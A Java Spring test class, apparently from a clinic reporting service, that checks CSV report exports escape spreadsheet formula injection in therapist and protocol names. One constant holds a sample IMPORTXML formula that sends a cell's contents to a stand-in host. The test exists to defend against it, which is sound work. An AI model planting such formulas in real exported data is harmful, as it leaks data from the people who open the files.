package ilium.reporting;

import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpHeaders;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.client.RestTestClient;

import ilium.HttpTest;
import ilium.Staff;
import ilium.therapists.Therapists;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * API.md, Conventions: names an attacker chose never reach an admin's spreadsheet as a
 * live formula; a text cell beginning with {@code = + - @}, tab or carriage return is
 * written with a leading {@code '}, while numbers (negative ones too) stay numbers.
 */
@HttpTest
class CsvFormulaTests {

	private static final String LEAK = "=IMPORTXML(\"http://x/?leak=\"&B2,\"//a\")";

	@Autowired
	RestTestClient http;

	@Autowired
	JdbcClient jdbc;

	@Autowired
	Staff staff;

	@Test
	void aTherapistNamedAsAFormulaIsWrittenAsText() {
		String tag = UUID.randomUUID().toString();
		Therapists therapists = new Therapists(jdbc);
		UUID leak = therapists.newTherapist(LEAK, tag);
		UUID plus = therapists.newTherapist("+1+1", tag);
		UUID minus = therapists.newTherapist("-2+3", tag);
		UUID at = therapists.newTherapist("@SUM(1+1)", tag);
		UUID tab = therapists.newTherapist("\t=1+1", tag);
		UUID carriageReturn = therapists.newTherapist("\r=1+1", tag);

		String csv = csv("/api/v1/reports/utilization?from=2026-12-01&to=2026-12-01");

		assertThat(csv)
			.contains("\"%s\",\"'=IMPORTXML(\"\"http://x/?leak=\"\"&B2,\"\"//a\"\") %s\",0.00,0.00,0.00,0.0000"
				.formatted(leak, tag))
			.contains("\"%s\",\"'+1+1 %s\"".formatted(plus, tag))
			.contains("\"%s\",\"'-2+3 %s\"".formatted(minus, tag))
			.contains("\"%s\",\"'@SUM(1+1) %s\"".formatted(at, tag))
			.contains("\"%s\",\"'\t=1+1 %s\"".formatted(tab, tag))
			.contains("\"%s\",\"'\r=1+1 %s\"".formatted(carriageReturn, tag));
	}

	@Test
	void aProtocolNamedAsAFormulaIsWrittenAsTextAndNegativeNumbersStayNumbers() {
		ReportData data = new ReportData(http, jdbc);
		UUID therapist = data.therapist("Csv-" + UUID.randomUUID());
		String name = "@SUM(1+1) " + UUID.randomUUID();
		UUID protocol = newProtocol(name);
		// Eleven patients, so the group is large enough to be shown whatever the
		// cell-size
		// rule.
		for (int i = 0; i < 11; i++) {
			UUID patient = data.patient(Instant.now());
			UUID plan = data.plan(patient, therapist, protocol, "ACTIVE", Instant.now(), null);
			data.nprs(patient, plan, LocalDate.of(2026, 3, 2), 8);
			data.nprs(patient, plan, LocalDate.of(2026, 3, 9), 5);
		}

		String csv = csv("/api/v1/reports/outcomes?from=2026-03-01&to=2026-03-31&groupBy=PROTOCOL");

		String row = csv.lines().filter(line -> line.contains(protocol.toString())).findFirst().orElseThrow();
		assertThat(row).startsWith("\"%s\",\"'%s\",11,NPRS,8.00,5.00,-3.00,".formatted(protocol, name));
	}

	private UUID newProtocol(String name) {
		Map<?, ?> created = http.post()
			.uri("/api/v1/protocols")
			.header(HttpHeaders.AUTHORIZATION, "Bearer " + staff.admin())
			.contentType(MediaType.APPLICATION_JSON)
			.body(Map.of("name", name, "exercises",
					List.of(Map.of("exerciseId", "00000000-0000-4000-a000-000000000001"))))
			.exchange()
			.expectStatus()
			.isCreated()
			.expectBody(Map.class)
			.returnResult()
			.getResponseBody();
		return UUID.fromString(created.get("id").toString());
	}

	private String csv(String uri) {
		return http.get()
			.uri(uri)
			.header(HttpHeaders.AUTHORIZATION, "Bearer " + staff.admin())
			.accept(MediaType.valueOf("text/csv"))
			.exchange()
			.expectStatus()
			.isOk()
			.expectBody(String.class)
			.returnResult()
			.getResponseBody();
	}

}
